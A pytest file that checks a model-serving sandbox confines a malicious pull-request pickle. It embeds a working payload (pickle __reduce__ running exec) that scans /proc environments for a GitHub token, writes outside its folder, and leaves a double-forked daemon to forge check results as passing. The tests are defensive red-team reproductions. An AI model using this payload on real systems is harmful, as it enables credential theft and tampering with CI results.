"""A pull request's pickle served by ``serving_parity``'s MLServer is confined (issue #15, red-team repro 1 and 2).

``serving_parity`` copies the PR's artifact into a temporary model repository and starts a real
MLServer, whose ``joblib.load`` runs the pickle's ``__reduce__``. These tests pin such a pickle
on the example readmission-triage candidate and check, with a ``GITHUB_TOKEN`` in the
environment of every govops process, that the payload cannot read the token from any
``/proc/PID/environ``, cannot write outside MLServer's work folder, and cannot leave a daemon
(own session, survives ``killpg``) behind to rewrite result files after the check has written
them; a server that ran without Landlock says so, and ``GOVOPS_MODEL_SANDBOX=require`` refuses it.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import re
import secrets
import subprocess
import sys
from pathlib import Path
from typing import Any

import joblib
import pytest

import runners.model_worker as model_worker
from engine.spec.workspace import load_workspace
from engine.validation.dag import ValidationTask, build_dag
from engine.validation.executors.local import run_validation
from tests.conftest import copy_example_repo

PROJECT = Path(__file__).resolve().parents[2]
TOKEN = "ghs_servingParitySandboxFAKE0123456789"
MODEL = "clinical/readmission-triage"

# Runs wherever the artifact is unpickled. Inside MLServer only (prediction workers are covered by
# test_model_isolation): look for the token in every process's environment, write outside the
# work folder, and double-fork a daemon in its own session that, once the "go" file appears (the
# test creates it after the check process has exited), rewrites the result file as a pass.
PAYLOAD = r"""
import ctypes, json, os, time
obs = {"pid": os.getpid(), "cwd": os.getcwd(), "tokens": [], "writes": {}}
if b"mlserver" in open("/proc/self/cmdline", "rb").read():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                env = open(f"/proc/{pid}/environ", "rb").read()
            except OSError:
                continue
            if TOKEN.encode() in env:
                obs["tokens"].append(int(pid))
    for target in TARGETS:
        try:
            with open(target, "w") as fh:
                fh.write("written by a model served by MLServer")
            obs["writes"][target] = "written"
        except OSError as exc:
            obs["writes"][target] = type(exc).__name__
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME: findable by the test
            for fd in (0, 1, 2):
                os.close(fd)
            while not os.path.exists(GO):
                time.sleep(0.05)
            try:
                doc = json.load(open(RESULT))
                doc.update(status="pass", metrics=[], error=None, summary="forged")
                json.dump(doc, open(RESULT, "w"))
            except Exception:
                pass
            os._exit(0)
        os._exit(0)
    os.wait()
    if RAISE:
        raise RuntimeError("SPY" + json.dumps(obs, separators=(",", ":")) + "YPS")
model = pickle.loads(INNER)
"""


class Payload:
    """Unpickles to ``inner`` after running :data:`PAYLOAD` (or raises with what it saw)."""

    def __init__(self, inner: Any, **values: Any) -> None:
        head = "".join(f"{k} = {v!r}\n" for k, v in values.items()) + f"INNER = {pickle.dumps(inner)!r}\n"
        self.code = "import pickle\n" + head + PAYLOAD

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (f"exec({self.code!r}, (g := {{}})) or g.get('model')",))


def _landlock() -> int:
    """The kernel's Landlock ABI (asked directly: this test must not trust the code it tests)."""
    if not sys.platform.startswith("linux"):
        return 0
    import ctypes

    return max(0, int(ctypes.CDLL(None).syscall(444, None, 0, 1)))


def daemons(marker: str) -> list[int]:
    """Live processes named ``marker`` (the payload's daemon)."""
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                comm = Path(f"/proc/{pid}/comm").read_text().strip()
                state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except (OSError, IndexError):
                continue
            if comm == marker and state not in "ZX":
                found.append(int(pid))
    return found


def observations(text: str) -> list[dict[str, Any]]:
    return [json.loads(m) for m in re.findall(r"SPY(\{.*?\})YPS", text)]


def _repo(tmp_path: Path, *, raise_: bool, result: Path) -> tuple[Path, ValidationTask, str, list[str]]:
    """The example repository with the readmission-triage candidate replaced by a payload."""
    root = copy_example_repo(tmp_path / "repo", git=False)
    ws = load_workspace(root)
    (task,) = [t for t in build_dag(ws.specs, ws.config) if t.model == MODEL and t.check == "serving_parity"]
    spec_file = root / task.spec_file
    version = ws.by_id()[MODEL].spec.version(task.version)
    assert version is not None
    artifact = root / version.artifact.uri
    marker = "gvd" + secrets.token_hex(6)
    targets = [str(tmp_path / "outside.txt"), str(result), str(root / "specs" / "forged.yaml")]
    payload = Payload(joblib.load(artifact), TOKEN=TOKEN, TARGETS=targets, MARKER=marker, GO=str(tmp_path / "go"),
                      RESULT=str(result), RAISE=raise_)
    old = hashlib.sha256(artifact.read_bytes()).hexdigest()
    with open(artifact, "wb") as fh:
        pickle.dump(payload, fh, protocol=4)
    new = hashlib.sha256(artifact.read_bytes()).hexdigest()
    spec_file.write_text(spec_file.read_text().replace(old, new))
    return root, task, marker, targets


def _run(root: Path, task: ValidationTask, out: Path) -> dict[str, Any]:
    run = run_validation(root, [task], out, jobs=1, timeout_s=300)
    (result,) = run.results
    return result


def _run_step(root: Path, task: ValidationTask, out: Path) -> tuple[int, str]:
    """The check as its own process (the Argo step), exec'd with ``GITHUB_TOKEN`` in its environment.

    Exec'd, not forked: ``/proc/PID/environ`` shows the environment a process started with, so
    only a process exec'd with the token shows it, like ``govops pr-check`` in CI.
    """
    env = {**os.environ, "GITHUB_TOKEN": TOKEN}
    env.pop(model_worker.SANDBOX_ENV, None)
    proc = subprocess.run(
        [sys.executable, "-m", "runners", "serving_parity", "--repo", str(root), "--spec", task.spec_file,
         "--model", MODEL, "--version", task.version, "--thresholds", json.dumps(task.thresholds),
         "--out", str(out), *(["--champion", task.champion] if task.champion else [])],
        cwd=PROJECT, env=env, capture_output=True, text=True, timeout=600,
    )
    return proc.returncode, proc.stderr


needs_landlock = pytest.mark.skipif(_landlock() < 4, reason="needs Landlock ABI >= 4 (TCP rules)")


@pytest.fixture()
def token_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.delenv(model_worker.SANDBOX_ENV, raising=False)


@pytest.mark.slow
@needs_landlock
def test_a_payload_in_mlserver_reads_no_token_writes_nothing_and_leaves_nothing(tmp_path) -> None:
    """repro-1: the payload looked for GITHUB_TOKEN in /proc/*/environ and found it in govops' processes."""
    out = tmp_path / "out" / "serving_parity.json"
    root, task, marker, targets = _repo(tmp_path, raise_=True, result=tmp_path / "elsewhere.json")
    code, stderr = _run_step(root, task, out)
    result = json.loads(out.read_text())
    assert code == 2 and result["status"] == "error", (stderr, result)
    seen = observations(result["error"])
    assert seen, result["error"]  # the payload ran inside MLServer, and told us what it saw
    for obs in seen:
        assert obs["tokens"] == [], f"the payload read GITHUB_TOKEN from processes {obs['tokens']}"
        assert set(obs["writes"]) == set(targets)
        assert all(v != "written" for v in obs["writes"].values()), obs["writes"]
    assert not any(Path(t).exists() for t in targets)
    assert daemons(marker) == []
    assert Path(obs["cwd"]).name == "work" and Path(obs["cwd"]).parent.name.startswith("govops-parity-")
    assert not Path(obs["cwd"]).parent.exists()  # the temporary folder went with the server


@pytest.mark.slow
@needs_landlock
def test_a_daemon_cannot_rewrite_results_after_the_check_process_exits(tmp_path) -> None:
    """repro-2: a double-forked daemon (own session) survived killpg and forged the results once validate exited."""
    result_file = tmp_path / "out" / "serving_parity.json"
    root, task, marker, _ = _repo(tmp_path, raise_=False, result=result_file)
    code, stderr = _run_step(root, task, result_file)
    written = result_file.read_text()
    survivors = daemons(marker)
    (tmp_path / "go").touch()  # the daemon's cue: the check process has exited
    assert survivors == [], "a process started by the served model outlived the check"
    assert result_file.read_text() == written  # (nothing was left to act on the cue)
    doc = json.loads(written)
    assert code == 0, (stderr, doc)
    assert doc["status"] == "pass" and doc["metrics"], doc  # the payload is inert: the model is judged as usual
    assert doc["details"]["sandbox"]["confined"] is True


@pytest.mark.slow
@needs_landlock
def test_without_a_pid_namespace_the_supervisor_still_kills_a_daemon(tmp_path, token_env, monkeypatch) -> None:
    """The non-root path: no PID namespace; a child-subreaper supervisor freezes and kills the whole tree."""
    plan = model_worker.sandbox_plan

    monkeypatch.setattr(model_worker, "sandbox_plan", lambda needs=(): {**plan(needs), "pid_namespace": False})
    root, task, marker, targets = _repo(tmp_path, raise_=False, result=tmp_path / "elsewhere.json")
    result = _run(root, task, tmp_path / "out")
    assert result["status"] == "pass", result
    assert result["details"]["sandbox"] == {**result["details"]["sandbox"], "pid_namespace": False, "confined": True}
    assert daemons(marker) == []
    assert not any(Path(t).exists() for t in targets)


@pytest.mark.slow
def test_without_landlock_the_result_says_unconfined_and_require_refuses(tmp_path, token_env, monkeypatch) -> None:
    """Honest on a machine without Landlock: a note in the result (best-effort), or no server at all (require)."""
    if os.geteuid() != 0 or _landlock() == 0:
        pytest.skip("simulates a kernel without Landlock where govops runs as root (the worker then keeps uid 0)")
    plan = model_worker.sandbox_plan
    monkeypatch.setattr(model_worker, "landlock_abi", lambda: 0)
    monkeypatch.setattr(model_worker, "sandbox_plan", lambda needs=(): {**plan(needs), "user": None, "uid": 0})
    root, task, marker, _ = _repo(tmp_path, raise_=False, result=tmp_path / "elsewhere.json")
    result = _run(root, task, tmp_path / "out")
    assert result["status"] == "pass", result
    assert "MLServer ran UNCONFINED" in result["summary"]
    assert result["details"]["sandbox"]["confined"] is False and result["details"]["sandbox"]["landlock"] == 0
    assert daemons(marker) == []  # even unconfined, nothing it started outlives the check

    monkeypatch.setenv(model_worker.SANDBOX_ENV, "require")
    result = _run(root, task, tmp_path / "out2")
    assert result["status"] == "error"
    assert "GOVOPS_MODEL_SANDBOX=require, but MLServer could not be confined" in result["error"]
    assert daemons(marker) == []


@pytest.mark.slow
@needs_landlock
def test_the_example_candidate_still_passes_serving_parity_confined(tmp_path, token_env) -> None:
    root = copy_example_repo(tmp_path / "repo", git=False)
    ws = load_workspace(root)
    (task,) = [t for t in build_dag(ws.specs, ws.config) if t.model == MODEL and t.check == "serving_parity"]
    result = _run(root, task, tmp_path / "out")
    assert result["status"] == "pass", result
    assert "UNCONFINED" not in result["summary"]
    sandbox = result["details"]["sandbox"]
    assert sandbox["confined"] is True and sandbox["landlock"] >= 4
